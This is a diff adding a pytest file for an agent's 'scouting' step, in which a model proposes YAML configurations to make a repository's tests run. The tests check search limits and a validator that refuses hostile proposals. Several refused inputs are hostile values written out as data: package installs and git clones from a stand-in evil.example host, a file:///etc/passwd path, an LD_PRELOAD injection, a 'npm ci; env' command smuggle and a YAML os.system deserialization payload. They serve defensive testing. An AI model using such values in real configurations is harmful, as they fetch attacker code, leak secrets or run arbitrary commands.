@@ -1,0 +1,181 @@
+"""A model looks for the configuration with which base's tests run; what it proposes is bounded."""
+
+from __future__ import annotations
+
+import pytest
+
+from agent.chat import Worst
+from agent.domain import CheckItem, CheckReport, CheckResult, Layer, Status, SuiteFacts
+from agent.editing import scouting
+from agent.environments.obstacles import Obstacle
+from agent.errors import RequestRefused
+from agent.testing import FakeModel, said
+from tests.unit.editing import desks
+
+FILES = {
+    "package.json": "{}",
+    ".npmrc": "",
+    "app/tests/test_a.py": "",
+    "app/tests/test_b.py": "",
+}
+SET_UP = "setup: [mkdir -p data]"
+
+
+def report(suite=None, **outcomes: int) -> CheckReport:
+    items = tuple(
+        CheckItem(
+            item_id=f"app/tests/test_a.py::{one}{n}", outcome=one, text="E   OSError: no data"
+        )
+        for one, count in outcomes.items()
+        for n in range(count)
+    )
+    tests = CheckResult(name="tests", status=Status.FAILED, items=items, suite=suite)
+    return CheckReport(side="base", commit="c", change_digest=None, results=(tests,))
+
+
+def try_(text=SET_UP):
+    return ("try_configuration", {"yaml": text})
+
+
+def read(text, prepared, home):
+    svc = desks.job(prepared, home, FakeModel(lambda _: said())).svc
+    return scouting.read(text, prepared, svc)
+
+
+@pytest.fixture
+def prepared(tmp_path, home):
+    return desks.repository(tmp_path, home, FILES)
+
+
+@pytest.fixture
+def scout(prepared, home):
+    """Let a model propose; each proposal ends as one of the reports, or for a reason."""
+
+    def begin(turns, ends, **facts):
+        model = FakeModel(lambda request: turns.pop(0), **facts)
+        job = desks.job(prepared, home, model)
+        tried = []
+
+        def try_lines(text, name):
+            tried.append((text, name))
+            end = ends.pop(0)
+            return end if isinstance(end, str) else (prepared, end)
+
+        found = scouting.scout(job, prepared, Obstacle(words="No data."), try_lines)
+        assert job.share == 1.0
+        sent = (one.content for request in model.requests[1:]
+                for one in request.messages[-1].results)  # fmt: skip
+        return found, [*sent], tried, job
+
+    return begin
+
+
+def test_what_most_tests_pass_with_ends_the_search(scout):
+    turns = [said(desks.bash("ls")), said(try_("env: {A: b}")), said(try_())]
+    found, answers, tried, _ = scout(turns, ["OSError: no data", report(passed=3)])
+    assert found[1] == report(passed=3)
+    assert tried == [("env: {A: b}", "try 1"), (SET_UP, "try 2")]
+    assert answers[-1] == "OSError: no data"
+
+
+def test_it_ends_after_six_tries_with_what_ran_most_of_the_tests(scout):
+    some, more = report(passed=1, error=2), report(passed=2, error=3)
+    turns = [said(try_(f"env: {{A: a{number}}}")) for number in range(7)]
+    found, answers, tried, _ = scout(turns, ["no such package", some, more, some, some, some])
+    assert found[1] == more
+    assert len(tried) == 6
+    assert "passed 1" in answers[1]
+    assert "OSError: no data" in answers[1]
+
+
+def test_it_ends_once_it_has_spent_its_quarter(scout, prepared, home):
+    limits = desks.job(prepared, home, FakeModel(lambda _: said())).limits
+    # The first costs a cent, and the next could cost as much as a quarter of the run.
+    found, _, _, job = scout([said(desks.bash())], [], worst=Worst(tokens=9, usd=limits.usd / 4))
+    assert job.spent.calls == 1
+    assert "spend" in found
+
+
+def test_a_model_that_gives_up_says_why_and_without_one_nobody_is_asked(scout):
+    found, *_ = scout([said(("decline", {"why": "LDAP is needed."}))], [])
+    assert "LDAP is needed." in found
+    assert scout([], [], roles=())[0] == ""
+
+
+def test_a_run_that_goes_on_after_a_kill_asks_nothing_twice(prepared, home):
+    records = desks.Records()
+    for turns in ([said(desks.bash()), said(try_())], []):
+        model = FakeModel(lambda request, turns=turns: turns.pop(0))
+        job = desks.job(prepared, home, model, records=records)
+        end = (prepared, report(passed=3))
+        found = scouting.scout(job, prepared, Obstacle(words="x"), lambda text, name, end=end: end)
+        assert found == end
+        assert job.spent.calls == 2
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        ("checks: {tests: {args: [--deselect=app/tests/test_a.py]}}", "no path"),
+        ("checks: {tests: {args: ['-papp.tests']}}", "no path"),
+        ("python: {install: ['x @ https://evil.example/x.whl']}", "evil.example"),
+        ("python: {install: ['x @ file:///etc/passwd']}", "addresses"),
+        ("env: {A: 'http://ada:b@evil.example/'}", "evil.example"),
+        ("setup: ['git clone ssh://evil.example/x']", "evil.example"),
+        ("root: ../other", "repository"),
+        ("django: {manage: /etc/manage.py}", "absolute"),
+        ("python: {install: ['-r missing.txt']}", "no such file"),
+        ("checks: {tests: {command: 'echo 5 passed'}}", "command"),
+        ("checks: {tests: {runner: 'off', minutes: 600}}", "minutes"),
+        ("scope: {protect: []}", "scope"),
+        ("env: {AWS_SECRET_ACCESS_KEY: abc}", "secret"),
+        ("env: {MERGEWRIGHT_MODEL: x}", "MERGEWRIGHT_MODEL"),
+        ("env: {PYTEST_ADDOPTS: -x}", "PYTEST_ADDOPTS"),
+        ("env: {LD_PRELOAD: x.so}", "LD_PRELOAD"),
+        ("setup: [{run: npm ci, network: packages, files: [gone.json]}]", "network"),
+        ("setup: [{run: npm ci, network: packages, files: [.npmrc]}]", "network"),
+        ("setup: [{run: npm ci; env, network: packages, files: [package.json]}]", "network"),
+        ("setup: [{run: npm ci --registry=x, network: packages, files: [package.json]}]", "network"),
+        ("!!python/object/apply:os.system ['true']", "proposed.yml:1"),
+    ],
+)  # fmt: skip
+def test_what_goes_beyond_a_set_up_is_refused_before_anything_is_built(prepared, home, text, why):
+    with pytest.raises(RequestRefused, match=why):
+        read(text, prepared, home)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "env: {SECRET_KEY: test, DATABASE_URL: 'postgres://u:p@localhost:5432/db', PYTHONPATH: app}",
+        "setup: [{run: npm ci --ignore-scripts, network: packages, files: [package.json]}]",
+        "version: 1\nroot: app\nchecks: {tests: {args: [tests.test_a, ./tests/test_b.py]}}",
+    ],
+)
+def test_what_a_set_up_needs_is_taken(prepared, home, text):
+    assert read(text, prepared, home).scouted
+
+
+def test_fewer_tests_and_what_decides_about_them_are_refused(prepared, home, tmp_path):
+    svc = desks.job(prepared, home, FakeModel(lambda _: said())).svc
+    contract = read(SET_UP, prepared, home)
+    facts = SuiteFacts(files=("app/tests/test_a.py",))
+    for name, refused in (("app/conftest.py", True), ("app/test_x.py", True), ("data/x", False)):
+        place = tmp_path / name.replace("/", "-") / "tree" / name
+        place.parent.mkdir(parents=True)
+        place.touch()
+        layers = (Layer(folder=str(tmp_path / name.replace("/", "-"))),)
+        environment = prepared.environment.model_copy(update={"layers": layers})
+        update = {"contract": contract, "environment": environment}
+        given = prepared.model_copy(update=update), report(facts, passed=3), 3, svc
+        if refused:
+            with pytest.raises(RequestRefused, match=name):
+                scouting.look_at(*given)
+        else:
+            looked = scouting.look_at(*given)
+    lines, left = looked.scouted
+    assert "`setup:" in lines.message
+    assert "app/tests/test_b.py" in left.message
+    fewer = prepared.model_copy(update={"contract": contract})
+    with pytest.raises(RequestRefused, match="3 tests"):
+        scouting.look_at(fewer, report(passed=3), 4, svc)
